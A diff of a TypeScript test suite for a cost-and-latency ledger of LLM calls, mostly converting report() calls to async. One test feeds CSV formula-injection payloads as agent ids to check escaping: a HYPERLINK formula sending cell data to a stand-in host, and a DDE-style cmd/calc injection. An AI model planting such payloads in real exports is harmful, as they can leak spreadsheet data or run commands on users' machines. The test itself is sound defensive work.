@@ -335,8 +335,8 @@ describe('Ledger', () => {
     rmSync(dir, { recursive: true, force: true });
   });
 
-  it('totals for "all" equal the hand calculation on the default host model', () => {
-    const r = ledger.report({ period: 'all' });
+  it('totals for "all" equal the hand calculation on the default host model', async () => {
+    const r = await ledger.report({ period: 'all' });
     const h = hand(RAW.hostModel, () => true).get('all')!;
     expect(r.hostModel).toBe(RAW.hostModel);
     expect(r.rows).toHaveLength(1);
@@ -363,15 +363,15 @@ describe('Ledger', () => {
     expect(r.totals.netUsd).toBeLessThan(r.totals.grossUsd);
   });
 
-  it('prices against another host model when asked, and refuses an unknown one naming the known models', () => {
-    const r = ledger.report({ period: 'all', hostModel: 'claude-haiku-4-5' });
+  it('prices against another host model when asked, and refuses an unknown one naming the known models', async () => {
+    const r = await ledger.report({ period: 'all', hostModel: 'claude-haiku-4-5' });
     expectRow(r.totals, hand('claude-haiku-4-5', () => true).get('all')!);
     // a dated alias resolves to the same model
-    expect(ledger.report({ hostModel: 'claude-opus-4-5-20251101' }).hostModel).toBe('claude-opus-4-5');
-    expect(() => ledger.report({ hostModel: 'gpt-9' })).toThrow(/unknown host model "gpt-9"; known models: .*claude-sonnet-4-5/);
+    expect((await ledger.report({ hostModel: 'claude-opus-4-5-20251101' })).hostModel).toBe('claude-opus-4-5');
+    await expect(ledger.report({ hostModel: 'gpt-9' })).rejects.toThrow(/unknown host model "gpt-9"; known models: .*claude-sonnet-4-5/);
   });
 
-  it('filters by rolling period', () => {
+  it('filters by rolling period', async () => {
     const within = (ms: number) => (s: Scripted) => s.at >= NOW - ms && s.at <= NOW;
     for (const [period, ms] of [
       ['hour', H],
@@ -379,34 +379,34 @@ describe('Ledger', () => {
       ['week', 7 * D],
       ['month', 30 * D],
     ] as const) {
-      const r = ledger.report({ period });
+      const r = await ledger.report({ period });
       const h = hand(RAW.hostModel, within(ms)).get('all')!;
       expectRow(r.totals, h);
       expect(r.from).toBe(new Date(NOW - ms).toISOString());
       expect(r.to).toBe(new Date(NOW).toISOString());
     }
-    expect(ledger.report({ period: 'hour' }).totals.calls).toBe(2);
-    expect(ledger.report({ period: 'week' }).decisions.byRoute).toEqual({ cloud: 2, local: 1 });
+    expect((await ledger.report({ period: 'hour' })).totals.calls).toBe(2);
+    expect((await ledger.report({ period: 'week' })).decisions.byRoute).toEqual({ cloud: 2, local: 1 });
   });
 
-  it('filters by from/to range: from inclusive, to exclusive, dates and date-times', () => {
+  it('filters by from/to range: from inclusive, to exclusive, dates and date-times', async () => {
     const from = NOW - 3 * D;
     const to = NOW;
-    const r = ledger.report({ from: new Date(from).toISOString(), to: new Date(to).toISOString() });
+    const r = await ledger.report({ from: new Date(from).toISOString(), to: new Date(to).toISOString() });
     expect(r.period).toBe('range');
     expectRow(r.totals, hand(RAW.hostModel, (s) => s.at >= from && s.at < to).get('all')!);
     // the entry exactly at "from" is in, the one exactly at "to" is out
     expect(r.totals.calls).toBe(4);
     // a date-only range covers whole UTC days
-    const day = ledger.report({ from: '2026-11-18', to: '2026-11-19' });
+    const day = await ledger.report({ from: '2026-11-18', to: '2026-11-19' });
     const d0 = Date.parse('2026-11-18T00:00:00Z');
     expectRow(day.totals, hand(RAW.hostModel, (s) => s.at >= d0 && s.at < d0 + D).get('all')!);
     expect(day.totals.calls).toBe(2);
     // only "from": up to now
-    expect(ledger.report({ from: new Date(NOW - H).toISOString() }).totals.calls).toBe(2);
+    expect((await ledger.report({ from: new Date(NOW - H).toISOString() })).totals.calls).toBe(2);
   });
 
-  it('groups by model, route, strategy, agent and day', () => {
+  it('groups by model, route, strategy, agent and day', async () => {
     const all = () => true;
     const cases: [Parameters<Ledger['report']>[0]['groupBy'], (s: Scripted) => string][] = [
       ['model', (s) => s.e.model],
@@ -416,18 +416,18 @@ describe('Ledger', () => {
       ['day', (s) => new Date(s.at).toISOString().slice(0, 10)],
     ];
     for (const [groupBy, key] of cases) {
-      const r = ledger.report({ period: 'all', groupBy });
+      const r = await ledger.report({ period: 'all', groupBy });
       const h = hand(RAW.hostModel, all, key);
       expect(r.rows.map((x) => x.group).sort(), groupBy).toEqual([...h.keys()].sort());
       for (const row of r.rows) expectRow(row, h.get(row.group)!);
       // groups add up to the total
       expect(r.rows.reduce((a, x) => a + x.calls, 0)).toBe(r.totals.calls);
     }
-    expect(ledger.report({ groupBy: 'route' }).rows.find((x) => x.group === 'local_required')!.calls).toBe(1);
+    expect((await ledger.report({ groupBy: 'route' })).rows.find((x) => x.group === 'local_required')!.calls).toBe(1);
   });
 
-  it('writes CSV that parses back to the same figures, with quoting', () => {
-    const r = ledger.report({ period: 'all', groupBy: 'agent' });
+  it('writes CSV that parses back to the same figures, with quoting', async () => {
+    const r = await ledger.report({ period: 'all', groupBy: 'agent' });
     const csv = ledger.toCsv(r);
     const recs = parse(csv, { columns: true }) as Record<string, string>[];
     expect(recs).toHaveLength(r.rows.length + 1);
@@ -448,13 +448,13 @@ describe('Ledger', () => {
     }
     expect(recs.map((x) => x.group)).toContain('team "x", a');
     // ungrouped: one line, no separate total
-    expect(parse(ledger.toCsv(ledger.report({})), { columns: true })).toHaveLength(1);
+    expect(parse(ledger.toCsv(await ledger.report({})), { columns: true })).toHaveLength(1);
   });
 
-  it('escapes CSV cells a spreadsheet would run as a formula (agent ids come from tool arguments)', () => {
+  it('escapes CSV cells a spreadsheet would run as a formula (agent ids come from tool arguments)', async () => {
     const hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];
     for (const agentId of hostile) ledger.recordCompletion(base({ agentId, promptTokens: 10, completionTokens: 10, route: 'local' }));
-    const r = ledger.report({ period: 'all', groupBy: 'agent' });
+    const r = await ledger.report({ period: 'all', groupBy: 'agent' });
     // ids are trimmed when recorded; a cell starting with a tab or CR is escaped too
     r.rows.push({ ...r.rows[0], group: '\tTAB' }, { ...r.rows[0], group: '\rCR' });
     hostile.push('\tTAB', '\rCR');
@@ -471,12 +471,12 @@ describe('Ledger', () => {
     expect(neg?.net_usd).toMatch(/^-\d/);
   });
 
-  it('keeps every figure across a restart (close and reopen the database)', () => {
-    const before = ledger.report({ period: 'month', groupBy: 'model' });
+  it('keeps every figure across a restart (close and reopen the database)', async () => {
+    const before = await ledger.report({ period: 'month', groupBy: 'model' });
     const stats = ledger.backendStats();
     db.close();
     open();
-    const after = ledger.report({ period: 'month', groupBy: 'model' });
+    const after = await ledger.report({ period: 'month', groupBy: 'model' });
     expect(after).toEqual(before);
     expect(ledger.backendStats()).toEqual(stats);
     // migrations ran once
@@ -485,15 +485,19 @@ describe('Ledger', () => {
     );
   });
 
-  it('rejects bad queries with messages that say how to fix them', () => {
-    expect(() => ledger.report({ period: 'year' as never })).toThrow(/unknown period "year"; use one of hour, day, week, month, all/);
-    expect(() => ledger.report({ groupBy: 'team' as never })).toThrow(
+  it('rejects bad queries with messages that say how to fix them', async () => {
+    await expect(ledger.report({ period: 'year' as never })).rejects.toThrow(
+      /unknown period "year"; use one of hour, day, week, month, all/,
+    );
+    await expect(ledger.report({ groupBy: 'team' as never })).rejects.toThrow(
       /unknown groupBy "team"; use one of model, route, strategy, agent, day, none/,
     );
-    expect(() => ledger.report({ from: '2026-11-20', to: '2026-11-10' })).toThrow(/"from" \(2026-11-20\) is after "to" \(2026-11-10\)/);
-    expect(() => ledger.report({ from: 'yesterday' })).toThrow(/invalid "from" date "yesterday"; use an ISO 8601 date/);
-    expect(() => ledger.report({ to: '2026-13-45' })).toThrow(/invalid "to" date/);
-    expect(() => ledger.report({ period: 'day', from: '2026-11-01' })).toThrow(/either "period" or a "from"\/"to" range/);
+    await expect(ledger.report({ from: '2026-11-20', to: '2026-11-10' })).rejects.toThrow(
+      /"from" \(2026-11-20\) is after "to" \(2026-11-10\)/,
+    );
+    await expect(ledger.report({ from: 'yesterday' })).rejects.toThrow(/invalid "from" date "yesterday"; use an ISO 8601 date/);
+    await expect(ledger.report({ to: '2026-13-45' })).rejects.toThrow(/invalid "to" date/);
+    await expect(ledger.report({ period: 'day', from: '2026-11-01' })).rejects.toThrow(/either "period" or a "from"\/"to" range/);
     expect(() => ledger.timeseries({ bucket: 'minute' as never })).toThrow(/unknown bucket "minute"/);
     expect(() => ledger.recordCompletion(base({ promptTokens: -5 }))).toThrow(/promptTokens must be a finite number >= 0/);
     expect(() => ledger.recordCompletion(base({ model: ' ' }))).toThrow(/model must be a non-empty string/);
@@ -505,7 +509,7 @@ describe('Ledger', () => {
     );
   });
 
-  it('per-backend stats use nearest-rank percentiles of successful calls', () => {
+  it('per-backend stats use nearest-rank percentiles of successful calls', async () => {
     const s = ledger.backendStats();
     const gguf = s.find((x) => x.backend === 'gguf')!;
     // successful gguf latencies sorted: 500, 2500, 6000, 9000 (the failed 1500 is excluded from latency)
@@ -519,7 +523,7 @@ describe('Ledger', () => {
     expect(ledger.backendStats({ period: 'hour' }).map((x) => x.calls)).toEqual([2]);
   });
 
-  it('recentLatencyP50 reads the newest successful completions', () => {
+  it('recentLatencyP50 reads the newest successful completions', async () => {
     // newest first: 500 (gguf), 6000 (gguf), 3100 (http), [1500 failed], 2500 (gguf), 4000 (http), 9000 (gguf)
     expect(ledger.recentLatencyP50(undefined, 3)).toBe(3100);
     expect(ledger.recentLatencyP50('gguf', 2)).toBe(500);
@@ -527,7 +531,7 @@ describe('Ledger', () => {
     expect(ledger.recentLatencyP50('nope')).toBeNull();
   });
 
-  it('upgrades a version-1 ledger database in place', () => {
+  it('upgrades a version-1 ledger database in place', async () => {
     const f = join(dir, 'v1.db');
     const v1 = openDatabase(
       f,
@@ -542,15 +546,15 @@ describe('Ledger', () => {
     try {
       const l2 = new Ledger({ db: db2, prices: loadPriceTable(), now: () => NOW });
       const p = priceOf(RAW.hostModel);
-      expect(l2.report().totals.grossUsd).toBeCloseTo((1000 * p.input + 1000 * p.output) / 1e6, 10);
+      expect((await l2.report()).totals.grossUsd).toBeCloseTo((1000 * p.input + 1000 * p.output) / 1e6, 10);
       l2.recordCompletion(base({ overheadTokensIn: 5, overheadTokenMethod: 'estimate:chars/4' }));
-      expect(l2.report().overheadTokenMethods).toEqual({ 'estimate:chars/4': 1 });
+      expect((await l2.report()).overheadTokenMethods).toEqual({ 'estimate:chars/4': 1 });
     } finally {
       db2.close();
     }
   });
 
-  it('decision stats count routes, complexity, reasons and privacy catches', () => {
+  it('decision stats count routes, complexity, reasons and privacy catches', async () => {
     const d = ledger.decisionStats();
     expect(d.total).toBe(4);
     expect(d.forced).toBe(1);
@@ -581,7 +585,7 @@ describe('Ledger', () => {
     expect(ledger.decisionStats().byRoute.cloud).toBe(2);
   });
 
-  it('timeseries buckets by UTC day with running gross and net totals', () => {
+  it('timeseries buckets by UTC day with running gross and net totals', async () => {
     const t = ledger.timeseries({ period: 'all', bucket: 'day' });
     const h = hand(
       RAW.hostModel,
@@ -605,7 +609,7 @@ describe('Ledger', () => {
     expect(ledger.timeseries({ period: 'day' }).bucket).toBe('hour');
   });
 
-  it('latency histogram counts successful calls per backend into the bins', () => {
+  it('latency histogram counts successful calls per backend into the bins', async () => {
     const hist = ledger.latencyHistogram({ edges: [0, 1000, 5000] });
     expect(hist.edges).toEqual([0, 1000, 5000]);
     const by = Object.fromEntries(hist.backends.map((b) => [b.backend, b.counts]));
@@ -614,7 +618,7 @@ describe('Ledger', () => {
     expect(() => ledger.latencyHistogram({ edges: [5, 1] })).toThrow(/strictly increasing/);
   });
 
-  it('estimate() prices cloud work and the delegation overhead on the host model', () => {
+  it('estimate() prices cloud work and the delegation overhead on the host model', async () => {
     const p = priceOf(RAW.hostModel);
     const e = ledger.estimate(1000, 400);
     expect(e.cloudModel).toBe(RAW.hostModel);
@@ -630,7 +634,7 @@ describe('Ledger', () => {
     expect(() => ledger.estimate(-1, 0)).toThrow(/inputTokens must be a finite number >= 0/);
   });
 
-  it('estimateDelegation(): host tokens and net dollars of a task done itself, by value and by reference', () => {
+  it('estimateDelegation(): host tokens and net dollars of a task done itself, by value and by reference', async () => {
     const p = priceOf(RAW.hostModel);
     const plain = new Ledger({ db, prices: loadPriceTable() });
     // a 2,000-token file summarised into 200 tokens; by value the arguments carry it (2,010), by reference a path (20)
@@ -649,7 +653,7 @@ describe('Ledger', () => {
     expect(() => plain.estimateDelegation({ ...r, mode: 'paste' as never })).toThrow(/mode must be "value" or "reference"/);
   });
 
-  it('tells listeners when something was recorded', () => {
+  it('tells listeners when something was recorded', async () => {
     let n = 0;
     const off = ledger.onChange(() => n++);
     ledger.recordCompletion(base({ promptTokens: 1, completionTokens: 1 }));
@@ -672,7 +676,7 @@ describe('Ledger', () => {
     expect(n).toBe(2);
   });
 
-  it('records how the input came (by value or by reference) and shows the two apart, with the host input avoided', () => {
+  it('records how the input came (by value or by reference) and shows the two apart, with the host input avoided', async () => {
     const p = priceOf(RAW.hostModel);
     now = NOW - 10 * 60_000;
     // by reference: the host wrote a path (40 tokens of arguments) and did not read the 6,000-token file
@@ -711,7 +715,7 @@ describe('Ledger', () => {
       }),
     );
     now = NOW;
-    const r = ledger.report({ period: 'hour' });
+    const r = await ledger.report({ period: 'hour' });
     const ref = r.byInputMode.reference;
     const val = r.byInputMode.value;
     expect(ref).toMatchObject({ calls: 2, okCalls: 1, avoidedHostInputTokens: 6000, overheadTokensOut: 80 });
@@ -726,12 +730,15 @@ describe('Ledger', () => {
     expect(val.netUsd).toBeLessThan(ref.netUsd);
     expect(r.method).toMatch(/by reference/);
     // CSV carries the avoided tokens; a rollup keeps the split
-    const csv = parse(ledger.toCsv(ledger.report({ period: 'all', groupBy: 'model' })), { columns: true }) as Record<string, string>[];
+    const csv = parse(ledger.toCsv(await ledger.report({ period: 'all', groupBy: 'model' })), { columns: true }) as Record<
+      string,
+      string
+    >[];
     expect(Number(csv.find((x) => x.group === 'total')!.avoided_host_input_tokens)).toBe(6000);
-    const before = ledger.report({ period: 'all' }).byInputMode;
+    const before = (await ledger.report({ period: 'all' })).byInputMode;
     now = NOW + 5 * D;
     ledger.rollup({ olderThanDays: 1 });
-    expect(ledger.report({ period: 'all' }).byInputMode).toEqual(before);
+    expect((await ledger.report({ period: 'all' })).byInputMode).toEqual(before);
     // bad values are refused with what to fix
     expect(() => ledger.recordCompletion(base({ inputMode: 'file' as never }))).toThrow(/inputMode must be "value" or "reference"/);
     expect(() => ledger.recordCompletion(base({ inputMode: 'value', avoidedHostInputTokens: 10 }))).toThrow(
@@ -742,22 +749,22 @@ describe('Ledger', () => {
     );
   });
 
-  it('live backend stats: counts from counters of every process (kept across rollups), percentiles of the newest calls', () => {
+  it('live backend stats: counts from counters of every process (kept across rollups), percentiles of the newest calls', async () => {
     const db2 = openDatabase(file, ALL);
     try {
       const other = new Ledger({ db: db2, prices: loadPriceTable(), now: () => now });
       other.recordCompletion(base({ latencyMs: 700, tokensPerSecond: 10 }));
       other.recordCompletion(base({ backend: 'openai-http', model: 'llama-small', ok: false, error: 'HTTP 500' }));
-      const live = ledger.liveBackendStats();
+      const live = await ledger.liveBackendStats();
       const gguf = live.find((x) => x.backend === 'gguf')!;
       expect(gguf).toMatchObject({ model: 'qwen-tiny', calls: 6, errors: 1 });
       expect(live.find((x) => x.backend === 'openai-http')).toMatchObject({ model: 'llama-small', calls: 3, errors: 1 });
       // percentiles: successful gguf calls of the last 7 days, newest first 700, 500, 6000, 2500 (9000 is 40 days old)
       expect(gguf).toMatchObject({ latencyP50: 700, latencyP99: 6000 });
-      expect(ledger.liveBackendStats(2)[0]).toMatchObject({ calls: 6, latencyP50: 500, latencyP99: 700 });
-      expect(other.liveBackendStats()).toEqual(live);
+      expect((await ledger.liveBackendStats(2))[0]).toMatchObject({ calls: 6, latencyP50: 500, latencyP99: 700 });
+      expect(await other.liveBackendStats()).toEqual(live);
       other.rollup({ olderThanDays: 1 });
-      expect(ledger.liveBackendStats().map((x) => [x.backend, x.calls, x.errors])).toEqual([
+      expect((await ledger.liveBackendStats()).map((x) => [x.backend, x.calls, x.errors])).toEqual([
         ['gguf', 6, 1],
         ['openai-http', 3, 1],
       ]);
@@ -766,7 +773,7 @@ describe('Ledger', () => {
     }
   });
 
-  it('rolls rows past the retention age up by UTC day, and every report keeps its totals', () => {
+  it('rolls rows past the retention age up by UTC day, and every report keeps its totals', async () => {
     // a decision older than the cut-off whose completion is newer: its route must still group that completion
     now = NOW - 5 * D;
     ledger.recordDecision({
@@ -794,13 +801,13 @@ describe('Ledger', () => {
       { from: '2026-11-11', to: '2026-11-19' },
       { from: '2026-10-01' },
     ];
-    const snapshot = () => ({
-      reports: windows.flatMap((w) => groupBys.map((groupBy) => ledger.report({ ...w, groupBy }))),
+    const snapshot = async () => ({
+      reports: await Promise.all(windows.flatMap((w) => groupBys.map((groupBy) => ledger.report({ ...w, groupBy })))),
       timeseries: ledger.timeseries({ period: 'all', bucket: 'day' }),
       decisions: (({ decisionLatencyP50Ms: _, ...rest }) => rest)(ledger.decisionStats()),
       backends: ledger.backendStats().map((b) => ({ backend: b.backend, model: b.model, calls: b.calls, errors: b.errors })),
     });
-    const before = snapshot();
+    const before = await snapshot();
     const rows = () =>
       (db.prepare('SELECT (SELECT count(*) FROM ledger_completions) + (SELECT count(*) FROM router_decisions) AS n').get() as { n: number })
         .n;
@@ -814,9 +821,9 @@ describe('Ledger', () => {
     expect((db.prepare('SELECT min(ts) AS t FROM ledger_completions').get() as { t: number }).t).toBeGreaterThanOrEqual(
       Date.parse('2026-11-19T00:00:00Z'),
     );
-    expect(snapshot()).toEqual(before);
+    expect(await snapshot()).toEqual(before);
     // the hand calculation still holds after the rollup
-    expectRow(ledger.report({ period: 'all' }).totals, addLate(hand(RAW.hostModel, () => true).get('all')!));
+    expectRow((await ledger.report({ period: 'all' })).totals, addLate(hand(RAW.hostModel, () => true).get('all')!));
 
     // idempotent, and another connection (another process) sees the same figures and finds nothing left to roll up
     expect(ledger.rollup({ olderThanDays: 2 })).toMatchObject({ completions: 0, decisions: 0 });
@@ -824,14 +831,14 @@ describe('Ledger', () => {
     try {
       const other = new Ledger({ db: db2, prices: loadPriceTable(), localCost: LOCAL, now: () => now });
       expect(other.rollup({ olderThanDays: 2 })).toMatchObject({ completions: 0, decisions: 0 });
-      expect(other.report({ period: 'all', groupBy: 'route' })).toEqual(before.reports[2]);
+      expect(await other.report({ period: 'all', groupBy: 'route' })).toEqual(before.reports[2]);
       // rolling everything up (the late completion too, then its decision) keeps the totals
       now = NOW + 3 * D;
       expect(other.rollup({ olderThanDays: 1 })).toMatchObject({ completions: 4 });
       expect((db.prepare('SELECT count(*) AS n FROM ledger_completions').get() as { n: number }).n).toBe(0);
       expect((db.prepare('SELECT count(*) AS n FROM router_decisions').get() as { n: number }).n).toBe(0);
       for (const groupBy of groupBys)
-        expect(ledger.report({ period: 'all', groupBy }), groupBy).toEqual({
+        expect(await ledger.report({ period: 'all', groupBy }), groupBy).toEqual({
           ...before.reports[groupBys.indexOf(groupBy)],
           to: new Date(now).toISOString(),
         });
@@ -851,7 +858,7 @@ describe('loadPriceTable', () => {
   });
   afterEach(() => rmSync(dir, { recursive: true, force: true }));
 
-  it('ships a dated table whose cache prices follow the published multipliers', () => {
+  it('ships a dated table whose cache prices follow the published multipliers', async () => {
     const t = loadPriceTable();
     expect(t.asOf).toMatch(/^\d{4}-\d{2}-\d{2}$/);
     expect(t.source).toMatch(/pricing/);
@@ -866,7 +873,7 @@ describe('loadPriceTable', () => {
     expect(t.prices.find((p) => p.model === 'claude-opus-4-1')).toMatchObject({ input: 15, output: 75 });
   });
 
-  it('merges a price file and config overrides: replace, add, default cache prices, host model', () => {
+  it('merges a price file and config overrides: replace, add, default cache prices, host model', async () => {
     const f = join(dir, 'prices.json');
     writeFileSync(
       f,
@@ -901,7 +908,7 @@ describe('loadPriceTable', () => {
     expect(t.prices.filter((p) => p.model.startsWith('claude-haiku-4-5'))).toHaveLength(1);
   });
 
-  it('rejects bad prices with clear messages', () => {
+  it('rejects bad prices with clear messages', async () => {
     expect(() => loadPriceTable(undefined, { prices: [{ model: 'x', input: -1, output: 2 }] })).toThrow(
       /price "input" of model x is negative \(-1\)/,
     );
